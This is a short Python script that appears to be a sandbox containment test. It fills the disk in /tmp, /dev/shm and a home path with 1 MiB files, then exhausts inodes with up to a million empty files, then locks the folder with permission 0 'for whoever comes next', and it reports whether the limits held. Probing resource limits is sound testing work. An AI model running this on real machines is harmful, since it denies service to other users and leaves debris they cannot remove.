# Fill its home and /tmp under a folder without rights, and with empty files, for whoever comes next.
# earns: held
# walls: both
import os

written = made = 0
for place in ("/kernel", "/tmp", "/dev/shm"):
    hidden = f"{place}/hidden"
    os.mkdir(hidden)
    try:
        while True:
            with open(f"{hidden}/{written}", "wb") as file:
                written += file.write(bytes(1 << 20))
    except OSError:
        pass
    for name in os.listdir(hidden):
        os.remove(f"{hidden}/{name}")
    try:
        while made < 1_000_000:
            os.close(os.open(f"{hidden}/{made}", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError:
        pass
    os.chmod(hidden, 0)
print("REACHED" if written > 100 << 20 or made > 50_000 else "held", written >> 20, "MiB,", made, "files")
